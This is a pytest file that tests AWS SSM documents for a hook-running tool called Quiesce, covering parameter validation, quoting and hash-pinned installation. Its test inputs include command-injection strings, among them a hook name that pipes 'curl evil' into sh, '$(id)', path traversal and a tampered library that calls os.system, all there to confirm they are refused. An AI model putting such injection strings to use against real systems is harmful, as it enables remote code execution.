"""The Quiesce SSM documents: the run-hook document carries only identifiers and a declared hook's
name, every substitution is quoted, the runner is pinned by its hash, the allowlist is installed
pinned by its hash — and the documents' scripts executed here with parameters substituted the
way the SSM Agent substitutes them (a String verbatim), against the real guest runner and an
allowlist generated from a policy."""

from __future__ import annotations

import hashlib
import json
import os
import re
import shutil
import subprocess
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from quiesce.guest import RUNNER_PATH
from quiesce.guest.quiesce_guest import HOOK_NAME_RE
from quiesce.hooklib import INSTALLED_PATH, LIBRARY_PATH
from quiesce.policy import parse_policy
from quiesce.record import HookStatus
from quiesce_aws.allowlists import hook_allowlists
from quiesce_aws.hooks import (
    ALLOWLIST_PATH,
    HOOKS_SHA256_PLACEHOLDER,
    INSTALL_HOOKS_DOCUMENT,
    INSTALL_RUNNER_DOCUMENT,
    LIBRARY_INSTALL_PATH,
    RUN_HOOK_DOCUMENT,
    RUNNER_INSTALL_PATH,
    SHA256_PLACEHOLDER,
    STEP_NAME,
    hook_parameters,
    library_sha256,
    load_documents,
    parameter_problems,
    parameter_rules,
    parse_result,
    render_documents,
    runner_sha256,
)

from .conftest import hook_call, machine

DANGEROUS = ["'", '"', "`", "$", "\\", "{", "}", "\n", "\r", "\x00", "\x1b", " ", ";", "|"]
IDENTIFIERS = {
    "Phase",
    "RunId",
    "Member",
    "Hook",
    "ExpiresAt",
    "RestorePath",
    "MaxResultChars",
    "ExecutionTimeout",
}
needs_root = pytest.mark.skipif(os.geteuid() != 0, reason="installs and runs root-owned files")


@pytest.fixture(scope="module")
def docs() -> dict[str, dict[str, Any]]:
    return load_documents()


def script_of(doc: dict[str, Any], step: int = 0) -> str:
    return "\n".join(doc["mainSteps"][step]["inputs"]["runCommand"])


def agent_substitute(text: str, doc: dict[str, Any], sent: dict[str, list[str]]) -> str:
    """What the SSM Agent does to a string input: every {{ Name }} is replaced by the value."""
    for name, spec in doc["parameters"].items():
        if name not in sent and "default" not in spec:
            continue  # a required parameter this step does not use
        rendered = sent[name][0] if name in sent else str(spec["default"])
        text = re.sub(r"{{\s*" + name + r"\s*}}", rendered.replace("\\", "\\\\"), text)
    return text


# ------------------------------------------------------------------------------ shape


def test_the_run_hook_document_is_schema_2_2_with_one_linux_step(docs: dict[str, Any]) -> None:
    doc = docs["run_hook"]

    assert doc["schemaVersion"] == "2.2"
    (step,) = doc["mainSteps"]
    assert step["action"] == "aws:runShellScript"
    assert step["name"] == STEP_NAME
    assert step["precondition"] == {"StringEquals": ["platformType", "Linux"]}
    assert step["inputs"]["timeoutSeconds"] == "{{ ExecutionTimeout }}"
    assert f"runner={RUNNER_INSTALL_PATH}" in script_of(doc)
    assert f"allowlist={ALLOWLIST_PATH}" in script_of(doc)
    assert 'run-args --config "$allowlist"' in script_of(doc)


def test_the_parameters_are_identifiers_and_a_hook_name_and_nothing_that_could_run_code(
    docs: dict[str, Any],
) -> None:
    params = docs["run_hook"]["parameters"]

    assert set(params) == IDENTIFIERS
    assert all(spec["type"] == "String" for spec in params.values())
    assert params["Hook"]["allowedPattern"] == f"^{HOOK_NAME_RE.pattern}$"
    script = script_of(docs["run_hook"])
    (command,) = [line for line in script.splitlines() if line.lstrip().startswith("exec ")]
    assert command.split()[:4] == ["exec", '"$python"', "-I", '"$runner"']
    for inline_code in (" -c ", "eval ", "source ", "bash", "sh -"):
        assert inline_code not in script, inline_code


def test_every_parameter_is_constrained_by_allowed_values_or_an_anchored_pattern(
    docs: dict[str, Any],
) -> None:
    for name, spec in docs["run_hook"]["parameters"].items():
        pattern = spec.get("allowedPattern")
        assert spec.get("allowedValues") or pattern, name
        if pattern:
            assert pattern.startswith("^"), name
            assert pattern.endswith("$"), name


def test_every_substitution_in_the_script_sits_between_single_quotes(docs: dict[str, Any]) -> None:
    script = script_of(docs["run_hook"])
    uses = list(re.finditer(r"{{\s*(\w+)\s*}}", script))

    assert {m.group(1) for m in uses} == set(docs["run_hook"]["parameters"]) - {"ExecutionTimeout"}
    for use in uses:
        assert script[use.start() - 1] == "'", use.group(0)
        assert script[use.end()] == "'", use.group(0)


@pytest.mark.parametrize("char", DANGEROUS, ids=repr)
def test_no_parameter_admits_quotes_dollar_backticks_backslashes_braces_spaces_or_controls(
    docs: dict[str, Any], char: str
) -> None:
    for name, spec in docs["run_hook"]["parameters"].items():
        pattern = spec.get("allowedPattern")
        if pattern is not None:
            assert not re.fullmatch(pattern, f"/etc/{char}x"), (name, char)
            assert not re.fullmatch(pattern, f"a{char}1"), (name, char)
        else:
            assert not any(char in value for value in spec["allowedValues"]), name


@pytest.mark.parametrize(
    "hostile",
    [
        "x' ; sh -c 'curl evil | sh' ; '",
        "orders.db.pre' --config '/home/eve/hooks.json",
        "../../home/eve/hooks",
        "orders/db/pre",
        "/bin/sh",
        "-c",
        "orders.db.pre\n",
        "{{ Phase }}",
        "",
    ],
)
def test_the_document_refuses_a_hook_name_that_is_not_a_name(hostile: str) -> None:
    assert parameter_rules()["Hook"].problems([hostile])


@pytest.mark.parametrize(
    "hostile", ["/restore/it's", "/restore/$(id)", "/restore/a b", "relative", "/r/{{ Hook }}"]
)
def test_the_document_refuses_a_restore_path_with_quotes_spaces_or_code(hostile: str) -> None:
    assert parameter_rules()["RestorePath"].problems([hostile])
    assert not parameter_rules()["RestorePath"].problems(["/restore/orders-2026.12/db"])


def test_a_trailing_newline_cannot_slip_past_an_anchored_pattern() -> None:
    rules = parameter_rules()

    assert rules["RunId"].problems(["run-1\n"])
    assert rules["Member"].problems(["db\n"])
    assert rules["Hook"].problems(["orders.db.pre\n"])
    assert not rules["RunId"].problems(["run-1"])


def test_the_old_parameters_that_carried_argv_env_and_paths_are_gone() -> None:
    for old in ("Script", "Args", "Env", "Sha256", "TimeoutSeconds", "ThawScript", "ThawEnv"):
        assert parameter_problems({old: ["/bin/sh"]}) == [
            f"{old} is not a parameter of the document"
        ]


def test_rendering_pins_the_shipped_runners_hash_in_the_run_and_install_documents() -> None:
    rendered = render_documents()
    sha = runner_sha256()

    assert set(rendered) == {RUN_HOOK_DOCUMENT, INSTALL_RUNNER_DOCUMENT, INSTALL_HOOKS_DOCUMENT}
    for content in rendered.values():
        assert SHA256_PLACEHOLDER not in content
        assert HOOKS_SHA256_PLACEHOLDER not in content
    run_hook = json.loads(rendered[RUN_HOOK_DOCUMENT])
    install = json.loads(rendered[INSTALL_RUNNER_DOCUMENT])
    assert f"pinned={sha}" in script_of(run_hook)
    assert install["parameters"]["Sha256"]["default"] == sha


def test_rendering_pins_the_shipped_hook_librarys_hash_in_the_install_document() -> None:
    install = json.loads(render_documents()[INSTALL_RUNNER_DOCUMENT])

    assert library_sha256() == hashlib.sha256(LIBRARY_PATH.read_bytes()).hexdigest()
    assert install["parameters"]["LibrarySha256"]["default"] == library_sha256()
    assert LIBRARY_INSTALL_PATH == INSTALLED_PATH
    assert (
        json.loads(render_documents("1" * 64, "2" * 64)[INSTALL_RUNNER_DOCUMENT])["parameters"][
            "LibrarySha256"
        ]["default"]
        == "2" * 64
    )


# ------------------------------------------------------------------------------ running it

POLICY = """\
version: 1
name: shop
groups:
  orders:
    max_freeze_seconds: 30
    members:
      - name: db
        provider: aws
        region: eu-central-1
        select: {tags: {app: orders}}
        hooks:
          pre: {run: [HOOKS/echo-args.sh, pause, "two words", "it's $(id)"], timeout_seconds: 5}
          post: {run: [HOOKS/echo-args.sh, resume], timeout_seconds: 5}
"""


@pytest.fixture
def instance(tmp_path: Path) -> dict[str, Path]:
    """This machine as an instance: the runner installed in a private folder, hook scripts, and
    the allowlist generated from POLICY (its hooks live in this folder)."""
    root = tmp_path / "instance"
    (root / "lib").mkdir(parents=True, mode=0o755)
    runner = root / "lib" / "quiesce_guest.py"
    shutil.copyfile(RUNNER_PATH, runner)
    runner.chmod(0o755)
    hooks = root / "hooks"
    hooks.mkdir(mode=0o755)
    echo = hooks / "echo-args.sh"
    echo.write_text("#!/bin/sh\nprintf '[%s]\\n' \"$@\"\n")
    echo.chmod(0o755)
    (root / "etc").mkdir(mode=0o755)
    policy = parse_policy(POLICY.replace("HOOKS", str(hooks)))
    (target,) = hook_allowlists(policy).values()
    allowlist = json.loads(target.content)
    allowlist["state_dir"] = str(root / "state")
    config = root / "etc" / "hooks.json"
    config.write_text(json.dumps(allowlist))
    config.chmod(0o644)
    return {"root": root, "runner": runner, "hook": echo, "config": config}


def run_document(docs: dict[str, Any], instance: dict[str, Path], sent: dict[str, Any]) -> str:
    doc = docs["run_hook"]
    assert parameter_problems(sent) == []
    script = agent_substitute(script_of(doc), doc, sent)
    script = script.replace(RUNNER_INSTALL_PATH, str(instance["runner"]))
    script = script.replace(ALLOWLIST_PATH, str(instance["config"]))
    path = instance["root"] / "_script.sh"
    path.write_text(script)
    env = {"PATH": "/usr/bin:/bin"}
    done = subprocess.run(
        ["sh", str(path)], capture_output=True, text=True, timeout=60, env=env, check=False
    )
    return done.stdout + ("\n----------ERROR-------\n" + done.stderr if done.stderr else "")


python3 = pytest.mark.skipif(
    not os.access("/usr/bin/python3", os.X_OK), reason="no /usr/bin/python3"
)


@needs_root
@python3
def test_a_pre_and_a_post_run_the_declared_argv_and_the_watchdog_is_stopped(
    docs: dict[str, Any], instance: dict[str, Path]
) -> None:
    call = hook_call(machine("i-0abc12345"), "pre", run_id="doc-run-1")
    post = hook_call(machine("i-0abc12345"), "post", run_id="doc-run-1")

    held = parse_result(run_document(docs, instance, hook_parameters(call, "pre")))
    thawed = parse_result(run_document(docs, instance, hook_parameters(post, "post")))

    assert held is not None
    assert held.code == "Succeeded", held
    assert held.output == "[pause]\n[two words]\n[it's $(id)]\n"
    assert thawed is not None
    assert thawed.code == "Succeeded", thawed
    assert thawed.output == "[resume]\n"
    assert thawed.by == "orchestrator"
    state = json.loads((instance["root"] / "state" / "runs" / "doc-run-1--db.json").read_text())
    assert state["watchdog_stopped_at"] is not None


@needs_root
@python3
def test_a_check_returns_the_declared_digest(
    docs: dict[str, Any], instance: dict[str, Path]
) -> None:
    from quiesce.guest.quiesce_guest import entry_digest

    allowlist = json.loads(instance["config"].read_text())
    sent = hook_parameters(hook_call(machine("i-0abc12345"), "pre"), "check")

    result = parse_result(run_document(docs, instance, sent))

    assert result is not None
    assert result.code == "Allowed", result
    assert result.declared == entry_digest(allowlist["hooks"]["orders.db.pre"])
    assert result.thaw_declared == entry_digest(allowlist["hooks"]["orders.db.post"])


@needs_root
@python3
def test_a_name_the_instance_does_not_declare_runs_nothing(
    docs: dict[str, Any], instance: dict[str, Path]
) -> None:
    marker = instance["root"] / "ran"
    other = replace(hook_call(machine("i-0abc12345"), "post"), group="billing")

    result = parse_result(run_document(docs, instance, hook_parameters(other, "post")))

    assert result is not None
    assert (result.status, result.code) == (HookStatus.REFUSED, "HookNotDeclared")
    assert not marker.exists()


@needs_root
@python3
def test_a_declared_post_cannot_be_started_as_a_pre(
    docs: dict[str, Any], instance: dict[str, Path]
) -> None:
    sent = hook_parameters(hook_call(machine("i-0abc12345"), "pre"), "pre")
    sent["Hook"] = ["orders.db.post"]

    result = parse_result(run_document(docs, instance, sent))

    assert result is not None
    assert (result.status, result.code) == (HookStatus.REFUSED, "WrongPhase")


@python3
def test_a_runner_that_is_not_the_pinned_version_is_refused_before_anything_runs(
    docs: dict[str, Any], instance: dict[str, Path]
) -> None:
    with open(instance["runner"], "a") as runner:
        runner.write("\n# changed\n")
    sent = hook_parameters(hook_call(machine("i-0abc12345"), "post"), "post")

    result = parse_result(run_document(docs, instance, sent))

    assert result is not None
    assert (result.status, result.code) == (HookStatus.REFUSED, "RunnerHashMismatch")
    assert not (instance["root"] / "state").exists()


@python3
def test_a_missing_runner_is_reported_as_runner_missing(
    docs: dict[str, Any], instance: dict[str, Path]
) -> None:
    instance["runner"].unlink()
    sent = hook_parameters(hook_call(machine("i-0abc12345"), "post"), "post")

    result = parse_result(run_document(docs, instance, sent))

    assert result is not None
    assert (result.status, result.code) == (HookStatus.REFUSED, "RunnerMissing")
    assert "Quiesce-InstallRunner" in result.message


@python3
def test_a_missing_allowlist_names_the_association_that_installs_it(
    docs: dict[str, Any], instance: dict[str, Path]
) -> None:
    instance["config"].unlink()
    sent = hook_parameters(hook_call(machine("i-0abc12345"), "post"), "post")

    result = parse_result(run_document(docs, instance, sent))

    assert result is not None
    assert (result.status, result.code) == (HookStatus.REFUSED, "ConfigRefused")
    assert "Quiesce-InstallHooks" in result.message


# ------------------------------------------------------------------------------ installing


def test_the_install_document_downloads_both_files_then_checks_the_pinned_hashes(
    docs: dict[str, Any],
) -> None:
    doc = docs["install_runner"]
    runner, library, install = doc["mainSteps"]

    assert doc["schemaVersion"] == "2.2"
    for download, url in ((runner, "SourceUrl"), (library, "LibraryUrl")):
        assert download["action"] == "aws:downloadContent"
        assert download["inputs"]["sourceType"] == "S3"
        assert download["inputs"]["sourceInfo"] == '{"path": "{{ ' + url + ' }}"}'
        assert download["inputs"]["destinationPath"] == "/usr/local/lib/quiesce/.incoming"
    assert install["action"] == "aws:runShellScript"
    source, library_source = (
        doc["parameters"][p]["allowedPattern"] for p in ("SourceUrl", "LibraryUrl")
    )
    assert re.fullmatch(
        source, "https://my-bucket.s3.eu-central-1.amazonaws.com/quiesce/0.1.0/quiesce_guest.py"
    )
    assert not re.fullmatch(source, "https://example.com/quiesce_guest.py")
    url = "https://my-bucket.s3.eu-central-1.amazonaws.com/library/" + "a" * 64
    assert re.fullmatch(library_source, url + "/quiesce_hooks.py")
    assert not re.fullmatch(library_source, url + "/quiesce_guest.py")
    assert not re.fullmatch(library_source, "https://example.com/quiesce_hooks.py")
    assert not re.fullmatch(library_source, url + "/quiesce_hooks.py' ; id ; '")


def _install(
    docs: dict[str, Any], root: Path, sha: str, hooks_sha: str | None = None
) -> subprocess.CompletedProcess[str]:
    doc = docs["install_runner"]
    sent = {"Sha256": [sha], "LibrarySha256": [hooks_sha or library_sha256()]}
    script = agent_substitute(script_of(doc, 2), doc, sent)
    script = script.replace("/usr/local/lib/quiesce", str(root / "lib"))
    script = script.replace("/var/lib/quiesce", str(root / "state"))
    return subprocess.run(
        ["sh", "-c", script], capture_output=True, text=True, timeout=60, check=False
    )


def _downloaded(root: Path, runner: bytes, library: bytes) -> Path:
    """What the two download steps leave: both files in the .incoming folder."""
    incoming = root / "lib" / ".incoming"
    incoming.mkdir(parents=True, exist_ok=True)
    (incoming / "quiesce_guest.py").write_bytes(runner)
    (incoming / "quiesce_hooks.py").write_bytes(library)
    return incoming


@pytest.mark.skipif(os.geteuid() != 0, reason="installs files owned by root")
def test_the_install_script_installs_the_pinned_runner_and_library_root_owned(
    docs: dict[str, Any], tmp_path: Path
) -> None:
    incoming = _downloaded(tmp_path, RUNNER_PATH.read_bytes(), LIBRARY_PATH.read_bytes())

    done = _install(docs, tmp_path, runner_sha256())

    assert done.returncode == 0, done.stderr
    for name, source in (("quiesce_guest.py", RUNNER_PATH), ("quiesce_hooks.py", LIBRARY_PATH)):
        installed = tmp_path / "lib" / name
        assert installed.read_bytes() == source.read_bytes()
        st = installed.stat()
        assert (st.st_uid, st.st_gid, st.st_mode & 0o777) == (0, 0, 0o755)
        digest = hashlib.sha256(source.read_bytes()).hexdigest()
        assert f"installed {installed} {digest}" in done.stdout
    assert (tmp_path / "state").stat().st_mode & 0o777 == 0o700
    assert not incoming.exists()
    assert sorted(p.name for p in (tmp_path / "lib").iterdir()) == [
        "quiesce_guest.py",
        "quiesce_hooks.py",
    ]
    listed = subprocess.run(
        [str(tmp_path / "lib" / "quiesce_hooks.py"), "--help"],
        capture_output=True,
        text=True,
        timeout=30,
        check=False,
    )
    assert listed.returncode == 0, listed.stderr
    assert "postgresql" in listed.stdout


@pytest.mark.skipif(os.geteuid() != 0, reason="installs files owned by root")
def test_the_install_script_refuses_a_download_that_is_not_the_pinned_runner(
    docs: dict[str, Any], tmp_path: Path
) -> None:
    _downloaded(tmp_path, b"print('not the runner')\n", LIBRARY_PATH.read_bytes())

    done = _install(docs, tmp_path, runner_sha256())

    assert done.returncode == 1
    assert "quiesce_guest.py has SHA-256" in done.stderr
    assert "nothing installed" in done.stderr
    assert sorted(p.name for p in (tmp_path / "lib").iterdir()) == []


@pytest.mark.skipif(os.geteuid() != 0, reason="installs files owned by root")
def test_a_tampered_library_is_refused_and_the_installed_runner_and_library_stay(
    docs: dict[str, Any], tmp_path: Path
) -> None:
    lib = tmp_path / "lib"
    lib.mkdir(mode=0o755)
    old_runner, old_library = b"#!/usr/bin/python3\n# old runner\n", b"#!/usr/bin/python3\n# old\n"
    (lib / "quiesce_guest.py").write_bytes(old_runner)
    (lib / "quiesce_hooks.py").write_bytes(old_library)
    tampered = LIBRARY_PATH.read_bytes() + b"\nimport os; os.system('id')\n"
    _downloaded(tmp_path, RUNNER_PATH.read_bytes(), tampered)

    done = _install(docs, tmp_path, runner_sha256(), library_sha256())

    assert done.returncode == 1
    assert f"quiesce_hooks.py has SHA-256 {hashlib.sha256(tampered).hexdigest()}" in done.stderr
    assert f"not the pinned {library_sha256()}: nothing installed" in done.stderr
    assert (lib / "quiesce_guest.py").read_bytes() == old_runner
    assert (lib / "quiesce_hooks.py").read_bytes() == old_library
    assert sorted(p.name for p in lib.iterdir()) == ["quiesce_guest.py", "quiesce_hooks.py"]


def test_the_install_hooks_document_downloads_then_checks_the_pinned_hash(
    docs: dict[str, Any],
) -> None:
    doc = docs["install_hooks"]
    download, install = doc["mainSteps"]

    assert doc["schemaVersion"] == "2.2"
    assert set(doc["parameters"]) == {"SourceUrl", "Sha256"}
    assert "default" not in doc["parameters"]["Sha256"]
    assert download["action"] == "aws:downloadContent"
    assert download["inputs"]["destinationPath"] == "/etc/quiesce/.incoming"
    assert install["action"] == "aws:runShellScript"
    pattern = doc["parameters"]["SourceUrl"]["allowedPattern"]
    url = "https://quiesce-shop-runner-1.s3.eu-central-1.amazonaws.com/allowlists/orders.db/"
    assert re.fullmatch(pattern, url + "a" * 64 + "/hooks.json")
    assert not re.fullmatch(pattern, "https://example.com/hooks.json")
    assert not re.fullmatch(pattern, url + "hooks.json' ; id ; '")


def _install_hooks(docs: dict[str, Any], root: Path, sha: str) -> subprocess.CompletedProcess[str]:
    doc = docs["install_hooks"]
    script = agent_substitute(script_of(doc, 1), doc, {"Sha256": [sha]})
    script = script.replace("/etc/quiesce", str(root / "etc"))
    return subprocess.run(
        ["sh", "-c", script], capture_output=True, text=True, timeout=60, check=False
    )


def _incoming(root: Path, content: str) -> str:
    import hashlib

    incoming = root / "etc" / ".incoming"
    incoming.mkdir(parents=True, exist_ok=True)
    (incoming / "hooks.json").write_text(content)
    return hashlib.sha256(content.encode()).hexdigest()


@needs_root
@python3
def test_the_installed_allowlist_is_root_owned_0644_and_runs_the_members_hooks(
    docs: dict[str, Any], instance: dict[str, Path], tmp_path: Path
) -> None:
    """The allowlist generated from the policy, installed by the association's script, is the
    one the run-hook document then runs hooks from."""
    content = instance["config"].read_text()
    instance["config"].unlink()
    machine_root = tmp_path / "machine"
    sha = _incoming(machine_root, content)

    done = _install_hooks(docs, machine_root, sha)

    assert done.returncode == 0, done.stderr
    installed = machine_root / "etc" / "hooks.json"
    assert installed.read_text() == content
    st = installed.stat()
    assert (st.st_uid, st.st_gid, st.st_mode & 0o777) == (0, 0, 0o644)
    assert (machine_root / "etc").stat().st_mode & 0o777 == 0o755
    assert not (machine_root / "etc" / ".incoming").exists()
    assert sorted(p.name for p in (machine_root / "etc").iterdir()) == ["hooks.json"]
    sent = hook_parameters(hook_call(machine("i-0abc12345"), "post", run_id="doc-run-2"), "post")
    result = parse_result(run_document(docs, {**instance, "config": installed}, sent))
    assert result is not None
    assert (result.code, result.output) == ("Succeeded", "[resume]\n")


@needs_root
def test_an_allowlist_that_is_not_the_pinned_one_is_not_installed_and_the_old_one_stays(
    docs: dict[str, Any], tmp_path: Path
) -> None:
    (tmp_path / "etc").mkdir(mode=0o755)
    old = tmp_path / "etc" / "hooks.json"
    old.write_text('{"version": 1, "hooks": {}}\n')
    pinned = _incoming(tmp_path, '{"version": 1, "hooks": {}}\n')
    _incoming(tmp_path, '{"version": 1, "hooks": {"x.y.pre": {"run": ["/bin/sh"]}}}\n')

    done = _install_hooks(docs, tmp_path, pinned)

    assert done.returncode == 1
    assert "not the pinned" in done.stderr
    assert old.read_text() == '{"version": 1, "hooks": {}}\n'
    assert not (tmp_path / "etc" / ".incoming").exists()
